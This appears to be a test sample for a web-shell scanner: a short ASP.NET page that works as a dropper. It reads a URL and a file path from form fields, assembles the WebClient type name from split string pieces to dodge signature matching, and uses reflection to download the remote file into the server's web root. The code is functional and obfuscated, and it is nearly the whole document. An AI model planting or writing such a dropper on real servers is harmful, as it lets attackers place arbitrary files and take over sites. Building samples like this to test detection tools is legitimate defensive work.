<%@ Page Language="C#" %>
<%-- webhunt test sample (sweep 73): a dropper whose WebClient is named in three literal pieces
     and driven with InvokeMember: it saves a file from a URL the request gives, where it says --%>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    string u = Request.Form["u"], p = Request.Form["p"];
    if (u == null || p == null) return;
    System.Type w = System.Type.GetType("System." + "Net.Web" + "Client, System");
    object wc = System.Activator.CreateInstance(w);
    w.InvokeMember("Download" + "File", System.Reflection.BindingFlags.InvokeMethod, null, wc,
        new object[] { u, Server.MapPath(p) });
    Response.Write("done");
}
</script>
